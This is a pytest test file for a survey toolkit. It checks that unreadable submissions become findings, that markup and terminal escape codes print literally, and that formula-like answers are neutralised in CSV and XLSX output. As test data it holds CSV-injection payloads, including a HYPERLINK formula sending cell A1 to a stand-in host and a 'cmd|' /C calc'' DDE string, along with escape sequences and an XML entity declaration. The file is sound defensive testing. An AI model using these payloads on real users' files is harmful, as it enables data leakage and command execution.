"""Damaged and hostile submissions across commands: unreadable files are findings, answers are printed as they
are (never as rich markup), and answers that would run as spreadsheet formulas are written as text."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from rich.console import Console
from rich.text import Text
from typer.testing import CliRunner

from tests.conftest import write_md_form
from toolkit import ingest
from toolkit.cli import app
from toolkit.cli._common import shown
from toolkit.codebook import write_codebook
from toolkit.spreadsheet import TEXT_PREFIX, safe_cell, safe_frame
from toolkit.validate import validate
from toolkit.xform import load_form

runner = CliRunner()

FORM = """
| survey |
| | type | name | label | constraint | choice_filter |
| | text | name | Name | | |
| | integer | age | Age | . >= 0 and . <= 110 | |
| | decimal | debt | Debt | | |
| | select_one yn | ok | OK? | | |
| | select_one fx | fav | Favourite | | |
| choices |
| | list_name | name | label |
| | yn | 1 | =HYPERLINK("http://x.example/?"&A1,"Yes") |
| | yn | 2 | [link=http://x.example]No[/link] |
| | fx | a | -1+1 |
| | fx | b | @SUM(A1) |
| settings |
| | form_id |
| | hz |
"""


def _instance(uid: str, name: str = "Aida", age: str = "30", debt: str = "-5.5") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><data id="hz"><name>{name}</name><age>{age}</age>'
        f"<debt>{debt}</debt><ok>1</ok><meta><instanceID>{uid}</instanceID></meta></data>"
    ).encode()


def _folder(root: Path, files: dict[str, bytes]) -> Path:
    for name, data in files.items():
        (root / name).mkdir(parents=True, exist_ok=True)
        (root / name / "submission.xml").write_bytes(data)
    return root


@pytest.fixture
def form_path(tmp_path: Path) -> Path:
    return write_md_form(tmp_path, FORM)


# ---- item 3: a submission that cannot be read is a finding, never "valid" ----------------------------------------

TRUNCATED = _instance("uuid:cut")[:-40]


@pytest.mark.parametrize("method", ["auto", "columns", "instances"])
def test_a_truncated_submission_makes_validate_fail(tmp_path: Path, form_path: Path, method: str) -> None:
    subs = _folder(tmp_path / "in", {"good": _instance("uuid:good"), "cut": TRUNCATED})
    result = validate(subs, form_path, method=method)
    assert not result.valid
    (finding,) = [f for f in result.findings if f.code == "instance_unreadable"]
    assert finding.source is not None and finding.source.endswith("submission.xml") and "cut" in finding.source
    assert result.stats["by_code"]["instance_unreadable"] == 1


def test_validate_cli_reports_the_unreadable_file_in_json_csv_and_report(tmp_path: Path, form_path: Path) -> None:
    subs = _folder(tmp_path / "in", {"good": _instance("uuid:good"), "cut": TRUNCATED})
    args = ["validate", str(subs), "--form", str(form_path), "--csv", str(tmp_path / "f.csv")]
    done = runner.invoke(app, [*args, "--report", str(tmp_path / "r.html"), "--json"])
    assert done.exit_code == 1, done.output
    payload = json.loads(done.stdout)
    assert payload["valid"] is False
    assert [f["code"] for f in payload["issues"]] == ["instance_unreadable"]
    rows = list(csv.DictReader(io.StringIO((tmp_path / "f.csv").read_text(encoding="utf-8-sig"))))
    assert [r["code"] for r in rows] == ["instance_unreadable"] and "cut" in rows[0]["source"]
    assert "instance_unreadable" in (tmp_path / "r.html").read_text(encoding="utf-8")
    plain = runner.invoke(app, args)
    assert plain.exit_code == 1 and "valid," not in plain.stdout and "findings" in plain.stdout


@pytest.mark.parametrize(
    ("data", "hint"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not XML text"),
        (b"PK\x03\x04\x14\x00\x00\x00", "not XML text"),
        ("\ufeff<data>".encode("utf-16-le")[:-1], "UTF-16"),  # an odd number of bytes
    ],
    ids=["empty", "blank", "png", "zip", "broken-utf16"],
)
def test_ingest_reports_empty_and_binary_submission_files(
    tmp_path: Path, form_path: Path, data: bytes, hint: str
) -> None:
    subs = _folder(tmp_path / "in", {"good": _instance("uuid:good"), "bad": data})
    result = ingest.ingest([subs], load_form(form_path))
    (issue,) = [i for i in result.issues if i.code == "input.unreadable"]
    assert issue.location.file == str(subs / "bad" / "submission.xml")
    assert hint in issue.message and ("again" in issue.message)
    assert len(result.tables["hz"]) == 1
    # validate, on either path, reports it as a finding too
    for method in ("columns", "instances"):
        checked = validate(subs, form_path, method=method)
        assert [f.code for f in checked.findings] == ["instance_unreadable"], method


@pytest.mark.parametrize(
    "encode",
    [
        lambda text: text.encode("utf-16"),  # with a byte-order mark (Windows "Unicode")
        lambda text: text.encode("utf-16-le"),  # no mark: the declaration tells
        lambda text: text.encode("utf-16-be"),
        lambda text: b"\xef\xbb\xbf" + text.encode("utf-8"),
    ],
    ids=["utf16-bom", "utf16le-declared", "utf16be-declared", "utf8-bom"],
)
def test_utf16_submissions_are_read_like_utf8(tmp_path: Path, form_path: Path, encode) -> None:
    text = _instance("uuid:u16", name="Зарина").decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    subs = _folder(tmp_path / "in", {"a": _instance("uuid:a"), "u16": encode(text)})
    result = ingest.ingest([subs], load_form(form_path))
    assert not [i for i in result.issues if i.severity == "error"], result.issues
    frame = result.tables["hz"].set_index("KEY")
    assert frame.loc["uuid:u16", "name"] == "Зарина" and frame.loc["uuid:u16", "age"] == 30
    for method in ("columns", "instances"):
        assert validate(subs, form_path, method=method).valid, method


def test_an_entity_hidden_in_utf16_is_still_refused(tmp_path: Path, form_path: Path) -> None:
    bomb = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a "aaaa">]><data id="hz">&a;</data>'
    subs = _folder(tmp_path / "in", {"a": _instance("uuid:a"), "bomb": bomb.encode("utf-16")})
    result = ingest.ingest([subs], load_form(form_path))
    assert [i.code for i in result.issues] == ["input.unreadable"] and "DOCTYPE" in result.issues[0].message
    assert validate(subs, form_path, method="instances").findings[0].code == "instance_unreadable"


# ---- item 13: data is printed as it is, never read as rich markup ------------------------------------------------

MARKUP = ["[/]", "[link=http://x.example]click[/link]", "[bold red]x", "a\\", "[/link]", "\\[/]"]


# How the commands put data into their lines: alone (a table cell), after a coloured label, before more text.
TEMPLATES = ["{}", "[yellow]warning[/]: {}", "[red]error[/]: {} (see the log)", "{}\n[dim]x[/]"]


PRINTABLE = st.text(st.characters(blacklist_categories=("Cc",)) | st.sampled_from("\t\n\\[]/"))


@given(text=PRINTABLE | st.sampled_from(MARKUP), template=st.sampled_from(TEMPLATES))
@settings(max_examples=300, deadline=None)
def test_shown_text_is_printed_exactly(text: str, template: str) -> None:
    rendered = Text.from_markup(template.format(shown(text)))
    assert rendered.plain == Text.from_markup(template.format("@@")).plain.replace("@@", text)
    assert all("link" not in str(span.style) for span in rendered.spans)


@pytest.mark.parametrize("text", ["\x1b]8;;http://x.example\x1b\\click\x1b]8;;\x1b\\", "\x1b[2J", "a\rb", "\x9b31m"])
def test_control_characters_are_shown_not_sent_to_the_terminal(text: str) -> None:
    console = Console(file=io.StringIO(), force_terminal=True, color_system="truecolor")
    console.print(f"[yellow]warning[/]: {shown(text)}")
    written = console.file.getvalue()
    assert "\x1b]8" not in written and "\x1b[2J" not in written and "\r" not in written and "\x9b" not in written
    assert "\\x1b" in written or "\\x0d" in written or "\\x9b" in written


@pytest.mark.parametrize("answer", MARKUP[:3])
def test_validate_and_ingest_print_markup_answers_as_they_are(tmp_path: Path, form_path: Path, answer: str) -> None:
    # The answer is not a number: type_invalid quotes it in the message, and the folder name is data too.
    subs = _folder(tmp_path / "in", {f"x{answer.replace('/', '_')}": _instance("uuid:[/]", age=answer)})
    for args in (
        ["validate", str(subs), "--form", str(form_path)],
        ["ingest", str(subs), "--form", str(form_path), "--out", str(tmp_path / "DATA")],
    ):
        done = runner.invoke(app, args, env={"COLUMNS": "400"})
        assert done.exit_code == 1, done.output
        assert "unexpected error" not in done.output and "MarkupError" not in done.output
        assert answer in done.output, done.output


def test_run_prints_markup_answers_as_they_are(tmp_path: Path, form_path: Path) -> None:
    answer = "[/]"
    subs = _folder(tmp_path / "in", {"a": _instance("uuid:a", age=answer)})
    survey = tmp_path / "survey.toml"
    survey.write_text(
        f'[survey]\nname = "[/] survey"\nform = "{form_path.name}"\nout = "out"\n'
        f'[ingest]\ninputs = ["{subs.name}"]\n[validate]\ntoday = "2026-11-20"\n',
        encoding="utf-8",
    )
    done = runner.invoke(app, ["run", str(survey)], env={"COLUMNS": "400"})
    assert "unexpected error" not in done.output, done.output
    assert done.exit_code == 1 and "[/] survey" in done.output and answer in done.output


# ---- item 14: answers that would run as spreadsheet formulas are written as text ---------------------------------

DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+2", "-2+3*cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *[(v, TEXT_PREFIX + v) for v in DANGEROUS],
        ("-5", "-5"),  # a number in a text cell is data, and nothing runs
        ("+7.5e3", "+7.5e3"),
        ("-", "'-"),
        ("Aida", "Aida"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value, expected) -> None:
    assert safe_cell(value) == expected


def test_safe_frame_changes_text_cells_only() -> None:
    frame = pd.DataFrame(
        {
            "text": pd.array(["=1+1", "-5", None, "ok"], dtype="string"),
            "mixed": pd.Series(["@x", -98, None, "b"], dtype=object),
            "int": pd.array([-1, -2, None, 4], dtype="Int64"),
            "float": [-1.5, 0.0, float("nan"), 2.0],
        }
    )
    safe = safe_frame(frame)
    assert safe["text"].tolist()[:2] == ["'=1+1", "-5"] and safe["text"].isna().tolist() == [0, 0, 1, 0]
    assert safe["mixed"].tolist()[:2] == ["'@x", -98]
    assert safe["int"].dtype == frame["int"].dtype and safe["float"].equals(frame["float"])
    assert frame["text"][0] == "=1+1"  # the input is not changed


def _csv_cells(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def test_ingest_export_and_validate_csv_neutralise_formulas(tmp_path: Path, form_path: Path) -> None:
    payload = DANGEROUS[0]
    subs = _folder(tmp_path / "in", {"a": _instance("uuid:a", name=payload.replace("&", "&amp;"), age="=1+1")})
    done = runner.invoke(app, ["ingest", str(subs), "-f", str(form_path), "-o", str(tmp_path / "DATA"), "--csv"])
    assert done.exit_code == 1, done.output  # age is not a number: type_invalid
    (row,) = _csv_cells(tmp_path / "DATA" / "hz.csv")
    assert row["name"] == TEXT_PREFIX + payload and row["debt"] == "-5.5"
    assert pd.read_parquet(tmp_path / "DATA" / "hz.parquet")["name"][0] == payload  # the data stays exact

    done = runner.invoke(app, ["validate", str(subs), "-f", str(form_path), "--csv", str(tmp_path / "f.csv")])
    (finding,) = _csv_cells(tmp_path / "f.csv")
    assert finding["value"] == "'=1+1"

    subs = _folder(tmp_path / "in2", {"a": _instance("uuid:a", name=payload.replace("&", "&amp;"))})
    runner.invoke(app, ["ingest", str(subs), "-f", str(form_path), "-o", str(tmp_path / "DATA2")])
    done = runner.invoke(
        app, ["export", str(tmp_path / "DATA2"), "-f", str(form_path), "-o", str(tmp_path / "x"), "--format", "csv"]
    )
    assert done.exit_code == 0, done.output
    (plain,) = _csv_cells(tmp_path / "x" / "hz.csv")
    (labelled,) = _csv_cells(tmp_path / "x" / "hz-labelled.csv")
    assert plain["name"] == labelled["name"] == TEXT_PREFIX + payload
    assert plain["debt"] == "-5.5" and plain["ok"] == "1"
    assert labelled["ok"] == '\'=HYPERLINK("http://x.example/?"&A1,"Yes")'
    recoded = {r["choice_name"]: r["label"] for r in _csv_cells(tmp_path / "x" / "hz-value-map.csv")}
    assert recoded == {"a": "'-1+1", "b": "'@SUM(A1)"}


def test_codebook_xlsx_has_no_formulas(tmp_path: Path, form_path: Path) -> None:
    result = write_codebook(load_form(form_path), out_dir=tmp_path, formats=["xlsx"])
    (xlsx,) = [Path(p) for p in result.files if str(p).endswith(".xlsx")]
    book = load_workbook(xlsx)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    labels = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert labels and all(v.startswith(TEXT_PREFIX) for v in labels)
    with zipfile.ZipFile(xlsx) as archive:
        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_file_names_and_labels_with_markup_are_printed_as_they_are(tmp_path: Path) -> None:
    folder = tmp_path / "[b]x[link=x.example]"  # no / in a file name: the tags that open are enough
    folder.mkdir()
    form_path = write_md_form(folder, FORM, "[bold]form.md")
    table = folder / "t.csv"
    table.write_text("w,sex\n1,[/]\n1,[b]m\n1,[/]\n", encoding="utf-8")
    margins = folder / "m.csv"
    margins.write_text("variable,level,target\nsex,[/],20\nsex,[b]m,10\n", encoding="utf-8")
    for args, expected in (
        (["forms", "lint", str(form_path)], str(form_path)),
        (["codebook", str(form_path), "--out", str(folder / "cb"), "--format", "html"], str(folder / "cb")),
        (
            ["weights", "rake", str(table), "--weight", "w", "--margins", str(margins), "-o", str(folder / "o.csv")],
            "[b]m",
        ),
    ):
        done = runner.invoke(app, args, env={"COLUMNS": "400"})
        assert "unexpected error" not in done.output and "Traceback" not in done.output, done.output
        assert expected in done.output, (args[0], done.output)
